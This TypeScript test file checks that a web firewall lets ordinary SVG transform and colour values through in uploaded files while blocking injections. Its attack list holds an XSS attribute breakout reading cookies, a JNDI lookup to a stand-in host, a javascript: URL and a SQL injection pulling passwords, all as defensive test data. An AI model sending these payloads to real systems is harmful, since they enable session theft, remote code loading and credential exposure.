/**
 * SVG files uploaded as they are (a multipart file part, a PUT of image/svg+xml) through the full pipeline (bundled rules +
 * the shipped model, `warden eval`): attribute values that are transform lists, colours and paint references pass
 * (graphics-values.ts; the rust book's figures and logos were blocked by `transform`/`fill` alone, lead session 37);
 * injections in the same attributes are still blocked.
 */
import { testCarriers, type Carrier } from './carrier-verdicts.js';

const attr = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;');
const svg = (transform: string): string =>
  `<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100"><defs><linearGradient id="d"><stop offset="0" stop-color="#241b1b"/></linearGradient></defs>` +
  `<g transform="${attr(transform)}"><path d="M10 10 L90 10 L50 80 Z" fill="url(#d)"/><use href="#p" transform="rotate(72)"/></g></svg>\n`;
const BOUNDARY = '----WebKitFormBoundary7MA4YWxkTrZu0gW';

const CARRIERS: Record<string, Carrier> = {
  'svg upload': (v) => ({
    method: 'POST',
    path: '/admin/media/upload',
    query: '',
    headers: { Host: 'cms.example.org', 'Content-Type': `multipart/form-data; boundary=${BOUNDARY}` },
    body: `--${BOUNDARY}\r\nContent-Disposition: form-data; name="title"\r\n\r\nlogo\r\n--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="logo.svg"\r\nContent-Type: image/svg+xml\r\n\r\n${svg(v)}\r\n--${BOUNDARY}--\r\n`,
  }),
  'svg put': (v) => ({ method: 'PUT', path: '/assets/logo.svg', query: '', headers: { Host: 'cdn-origin.example.org', 'Content-Type': 'image/svg+xml' }, body: svg(v) }),
};

const BENIGN: [string, string][] = [
  ['svg upload', 'matrix(1.8213 0 0 1.7505 -239.14 -356.63)'],
  ['svg upload', 'scale(4.16667 4.16667) rotate(0) translate(4 182.5)'],
  ['svg put', 'rotate(288)'],
  ['svg put', 'translate(10,20) scale(2)'],
];

const ATTACKS: [string, string][] = [
  ['svg upload', 'rotate(72)" onload="alert(document.cookie)'],
  ['svg upload', "rotate(1) ${jndi:ldap://evil.example/a}"],
  ['svg put', 'url(javascript:alert(document.domain))'],
  ['svg put', "rotate(1)' union select username, password from users--"],
];

testCarriers('graphics values of uploaded SVG files through the pipeline', 'lets transform lists, colours and paint references pass', CARRIERS, BENIGN, ATTACKS);
